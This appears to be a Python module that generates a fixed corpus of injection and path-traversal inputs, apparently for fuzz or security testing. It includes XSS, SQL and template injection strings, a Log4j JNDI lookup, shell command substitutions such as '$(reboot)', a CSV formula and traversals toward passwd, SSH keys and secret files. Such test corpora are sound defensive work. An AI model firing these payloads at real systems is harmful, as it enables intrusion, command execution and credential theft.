"""Texts that break out of where they are put: out of pages, queries, paths, headers, logs, terminals."""

from __future__ import annotations

import itertools
import random

_MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</script><script>alert(1)//",
    "\"><iframe srcdoc='<script>alert(1)</script>'>",
    "javascript:alert(1)",
    "[a](javascript:alert(1))",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<math><mtext></p><style><!--</style><img src=x onerror=alert(1)>",
]
_CODE = [
    "'; DROP TABLE runs; --",
    '" OR ""="',
    "{{7*7}}",
    "{% import os %}",
    "${jndi:ldap://x/a}",
    "#{7*7}",
    "$(reboot)",
    "`id`",
    "=cmd|' /C calc'!A0",
    "__import__('os').system('id')",
]
_TEXT = [
    "\x1b[31mred",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "a\r\nSet-Cookie: a=b",
    "a\nb",
    "\u202egnp.exe",
    "\ufeffbom",
    "\u2028line",
    "💥" * 20,
    "e\u0301" * 50,
    "ﷺ" * 20,
    "\x00nul",
    "\x7f",
    "NaN",
    "null",
    "-0",
    "1e999",
    "../../etc/passwd",
    "%2e%2e%2f",
    "a" * 400,
    " ",
]


def payloads(count: int = 200) -> list[str]:
    """So many of them: each alone, then two of them together, always the same ones."""
    alone = [*_MARKUP, *_CODE, *_TEXT]
    pairs = [f"{a}{b}" for a, b in itertools.product(_MARKUP + _CODE, _TEXT) if len(a + b) < 400]
    random.Random(7).shuffle(pairs)
    return [*alone, *pairs][:count]


def traversals(count: int = 500) -> list[str]:
    """Raw paths that would lead out of a folder if anybody followed them; already as they go over the wire."""
    ups = [
        "../",
        "..%2f",
        "%2e%2e/",
        "%2e%2e%2f",
        "..%252f",
        "..%5c",
        "....//",
        "..;/",
        "%c0%ae%c0%ae/",
        ".%00./",
        "..%00/",
    ]
    goals = [
        "etc/passwd",
        "etc%2fpasswd",
        "proc/self/environ",
        "root/.ssh/id_rsa",
        "etc/passwd%00.html",
        "etc/passwd%0a",
    ]
    found = [up * depth + goal for up in ups for goal in goals for depth in (1, 2, 3, 4, 5, 7, 12)]
    found += [
        f"{lead}{goal}" for lead in ("/", "//", "%2f", "%5c%5chost%5c", "file:///", "~root/", "C:%5c") for goal in goals
    ]
    found += ["a" * size for size in (1000, 3000, 5000, 9000)] + ["CON", "NUL", "%00", "%00" * 50, "%ff%fe", "%"]
    found += [f"{up * 3}.partita/{name}" for up in ups for name in ("token", "secrets.key", "gates.key", "partita.db")]
    return list(dict.fromkeys(found))[:count]
